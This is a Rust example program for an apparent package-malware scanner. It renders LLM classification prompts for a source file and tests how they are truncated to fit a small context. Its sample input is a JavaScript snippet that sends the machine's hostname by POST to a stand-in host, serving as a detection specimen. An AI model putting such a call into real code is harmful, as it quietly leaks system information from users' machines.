//! Render the three stage prompts for one file and fit them to a context.
//!
//! $ cargo run --example render_prompts

use pkgsentry::corpus::SourceFile;
use pkgsentry::prompts::{budget_fit, render_critique, render_final, render_initial, Profile, TruncationPolicy};
use pkgsentry::tokens::CharsPerToken;

fn main() {
    let file = SourceFile::from_text(
        "index.js",
        "const os = require('os');\nfetch('https://example.invalid/c', { method: 'POST', body: os.hostname() });\n",
    );
    let initial = render_initial(&file).unwrap();
    println!("initial: {} system chars, ~{} tokens", initial.system_text.len(), initial.token_estimate);

    let reports = vec![r#"{"malware": 0.6}"#.to_string(), r#"{"malware": 0.8}"#.to_string()];
    let critique = render_critique(&file, &reports).unwrap();
    println!("critique system opens with: {}", &critique.system_text[..80]);
    let fin = render_final(&file, &reports[..1]).unwrap();
    println!("final user prompt:\n{}\n", fin.user_text);

    // A deliberately tiny context forces the file content to be cut.
    let mut model = Profile::builtin("gpt-3.5").unwrap().model;
    model.context_tokens = 1600;
    model.completion_reserve_tokens = 256;
    let big = SourceFile::from_text("big.js", &"console.log('padding');\n".repeat(400));
    let fit = budget_fit(render_initial(&big).unwrap(), &model, TruncationPolicy::TruncateTail, &CharsPerToken(4));
    match fit {
        Ok(b) => println!("fitted: truncated={} ~{} tokens", b.is_truncated(), b.token_estimate),
        Err(e) => println!("not fitted: {e}"),
    }
}
